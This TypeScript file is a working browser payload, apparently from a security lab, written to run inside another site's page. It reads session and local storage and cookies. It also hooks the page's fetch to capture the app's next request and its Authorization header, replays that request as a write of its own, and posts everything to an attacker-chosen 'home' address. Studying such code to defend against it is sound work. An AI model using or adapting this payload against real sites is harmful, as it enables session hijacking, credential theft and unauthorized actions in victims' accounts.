/** What the script has found in somebody else's page, as it sends it home. */
export interface Loot {
  /** The page's path: which application it ran in. */
  page: string
  sessionStorage: string[]
  localStorage: string[]
  /** Values of the cookies it could read. */
  cookies: string[]
  /** The `Authorization` header of the application's own next request; null when it sent none. */
  authorization: string | null
  /** What it had the page write, and the status of the answer; null when it had no request to copy. */
  written: { title: string; status: number } | null
}

/** What the script is told by the site that serves it. */
export interface Errand {
  /** Where the loot goes. */
  home: string
  /** How the titles of its photos begin. */
  title: string
  /** Storages know origins and not labs: keys of another lab do not end like this. */
  lab: string
}

/**
 * Runs inside the application's page, with all the rights of the application's own script (RFC 10017, section 5): reads
 * every storage, catches the next request of the application and repeats it as a write of its own.
 */
export async function plunder(window: Window & typeof globalThis, errand: Errand): Promise<void> {
  const { document, fetch } = window
  const valuesOf = (storage: Storage) =>
    Object.keys(storage).flatMap((key) => (key.endsWith(errand.lab) ? [storage.getItem(key) ?? ''] : []))
  const loot: Loot = {
    page: window.location.pathname,
    sessionStorage: valuesOf(window.sessionStorage),
    localStorage: valuesOf(window.localStorage),
    cookies: document.cookie.split('; ').flatMap((pair) => pair.split('=').slice(1)),
    authorization: null,
    written: null,
  }

  // A variable inside a function cannot be read. But whatever it is good for has to go through functions that can be
  // replaced (RFC 10017, section 8.4).
  const caught = await new Promise<{ url: string; init: RequestInit } | null>((resolve) => {
    window.fetch = (input, init = {}) => {
      resolve({ url: String(input), init })
      return fetch.call(window, input, init)
    }
    document.querySelector<HTMLElement>('button[name="look-again"]')?.click()
    window.setTimeout(() => resolve(null), 2000)
  })
  window.fetch = fetch

  if (caught) {
    const headers = new Headers(caught.init.headers)
    loot.authorization = headers.get('authorization')
    headers.set('content-type', 'application/x-www-form-urlencoded')
    const title = `${errand.title} ${window.crypto.randomUUID().slice(0, 8)}`
    const init = { ...caught.init, method: 'POST', headers, body: new URLSearchParams({ title }).toString() }
    const answer = await fetch.call(window, caught.url, init).catch(() => null)
    loot.written = { title, status: answer?.status ?? 0 }
  }
  await fetch.call(window, errand.home, { method: 'POST', mode: 'no-cors', body: JSON.stringify(loot) })
}
